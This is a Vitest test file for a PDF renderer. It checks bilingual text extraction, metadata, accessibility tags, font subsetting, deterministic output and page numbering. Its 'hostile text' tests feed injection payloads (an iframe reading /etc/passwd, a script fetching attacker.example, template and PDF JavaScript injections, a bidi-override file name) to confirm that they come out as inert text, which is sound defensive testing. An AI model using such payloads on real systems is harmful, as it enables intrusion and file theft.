import { beforeAll, describe, expect, test } from 'vitest';
import { renderPdf } from './rendered-pdf.ts';
import type { PdfContent } from './rendered-pdf.ts';
import { readPdf } from '#modules/documents/testing/read-pdf.ts';

const content: PdfContent = {
  locale: 'ru',
  title: 'Договор <с> издателем & "сетью"',
  author: 'Сеть & партнёры',
  blocks: [
    {
      type: 'paragraph',
      level: null,
      text: 'Съешь ещё этих мягких французских булок, да выпей чаю — № 5, «ёлки», 100 ₽.',
    },
    { type: 'heading', level: 2, text: '1. Payment' },
    { type: 'item', level: null, text: 'The quick brown fox' },
    { type: 'item', level: null, text: 'jumps over the lazy dog' },
    { type: 'heading', level: 3, text: '1.1 Details' },
    { type: 'paragraph', level: null, text: 'The end' },
  ],
  updatedAt: new Date('2026-11-20T09:30:00Z'),
};
const withText = (text: string): PdfContent => ({ ...content, blocks: [{ type: 'paragraph', level: null, text }] });

describe('a drawn document', () => {
  let bytes: Buffer;
  beforeAll(async () => {
    bytes = await renderPdf(content);
  });

  test('can be read as text, in both alphabets', async () => {
    const { pages } = await readPdf(bytes);
    expect(pages).toHaveLength(1);
    for (const text of [content.title, ...content.blocks.map((block) => block.text), 'Страница 1 из 1'])
      expect(pages[0]).toContain(text);
  });

  test('states its language, its title and who made it', async () => {
    const { info, lang, metadata } = await readPdf(bytes);
    expect(info).toMatchObject({
      Title: content.title,
      Author: content.author,
      Language: 'ru',
      IsAcroFormPresent: false,
    });
    expect(lang).toBe('ru');
    expect(metadata).toEqual({ title: content.title, isAccessible: true });
  });

  test('is tagged with its headings, paragraphs and lists', async () => {
    const { structure } = await readPdf(bytes);
    expect(structure).toEqual([
      'Document',
      'H1',
      'P',
      'H2',
      'L',
      'LI',
      'Lbl',
      'LBody',
      'LI',
      'Lbl',
      'LBody',
      'H3',
      'P',
    ]);
  });

  test('has its fonts with it, reduced to what is used', async () => {
    const { fonts } = await readPdf(bytes);
    expect(fonts.toSorted()).toEqual(['PTSans-Bold', 'PTSans-Regular']);
    expect(bytes.length).toBeLessThan(60_000);
  });

  test('is the same for the same content, byte by byte', async () => {
    expect((await renderPdf(content)).equals(bytes)).toBe(true);
    expect((await renderPdf(withText('Other'))).equals(bytes)).toBe(false);
  });

  test('does not depend on what was drawn before', async () => {
    const first = await renderPdf(withText('CAFE'));
    // The glyphs of accented letters contain the glyphs of plain letters. A font that both documents share would then
    // cache plain glyphs without their Unicode values.
    await renderPdf(withText('Ç Á Ĉ É'));
    expect((await renderPdf(withText('CAFE'))).equals(first)).toBe(true);
  });

  test('numbers its pages and leaves no heading without its text', async () => {
    const blocks = Array.from({ length: 40 }, (_none, index): PdfContent['blocks'] => [
      { type: 'heading', level: 2, text: `Section ${index}` },
      { type: 'paragraph', level: null, text: `Text of section ${index}. `.repeat(12) },
    ]).flat();
    const { pages } = await readPdf(await renderPdf({ ...content, locale: 'en', blocks }));
    expect(pages.length).toBeGreaterThan(2);
    for (const [index, page] of pages.entries()) {
      expect(page).toContain(`Page ${index + 1} of ${pages.length}`);
      for (const [, section] of page.matchAll(/Section (\d+)(?!\d)/g))
        expect(page).toContain(`Text of section ${section}.`);
    }
  });
});

describe('a hostile text', () => {
  test.each([
    '<iframe src="file:///etc/passwd"></iframe>',
    '<script>fetch("https://attacker.example")</script>',
    '{{7*7}} ${7*7} #{7*7} {company}',
    String.raw`\input{/etc/passwd} \n \0 (text) Tj ET endstream endobj`,
    '/OpenAction /JS (app.alert(1)) >> endobj',
    '=HYPERLINK("https://attacker.example")',
  ])('is printed unchanged, without a link or an action: %s', async (text) => {
    const bytes = await renderPdf({ ...withText(text), title: text });
    const { pages, actions } = await readPdf(bytes);
    expect(pages.join('\n').split(text).length - 1).toBeGreaterThanOrEqual(2);
    expect(actions).toBe(0);
  });

  test.each([
    ['emoji', 'Игры 👩‍👩‍👧‍👦🎮 Ltd', 'Игры [?] Ltd'],
    ['Hebrew', 'שלום עולם Ltd', '[?] [?] Ltd'],
    ['Arabic', 'A مرحبا B', 'A [?] B'],
    ['Chinese', '网络 Ltd', '[?] Ltd'],
    ['an override of the direction', 'evil\u202Efdp.exe', 'evil[?]fdp.exe'],
    ['isolates and marks', '\u2066a\u2069\u200fb', '[?]a[?]b'],
    ['invisible characters', 'a\u200Bb\u00ADc\uFEFFd', 'a[?]b[?]c[?]d'],
    ['control characters', 'a\u0000b\u0007c', 'a[?]b[?]c'],
    ['a lone surrogate', 'a\uD800b', 'a[?]b'],
    ['separate accents', 'Cafe\u0301 и\u0306', 'Café й'],
    ['narrow spaces and line separators', '5\u202F000\u2028x', '5\u00A0000 x'],
  ])('with %s is printed with a mark where the font has nothing', async (_what, text, expected) => {
    const { pages } = await readPdf(await renderPdf(withText(text)));
    expect(pages[0]?.replaceAll('\u00A0', ' ')).toContain(expected.replaceAll('\u00A0', ' '));
  });

  test('of ten thousand characters without a space stays inside of the page, and none is lost', async () => {
    const { pages, rightmost } = await readPdf(await renderPdf(withText('WЖ'.repeat(5_000))));
    expect(pages.join('').match(/[WЖ]/g)).toHaveLength(10_000);
    expect(rightmost).toBeLessThan(595);
  });
});
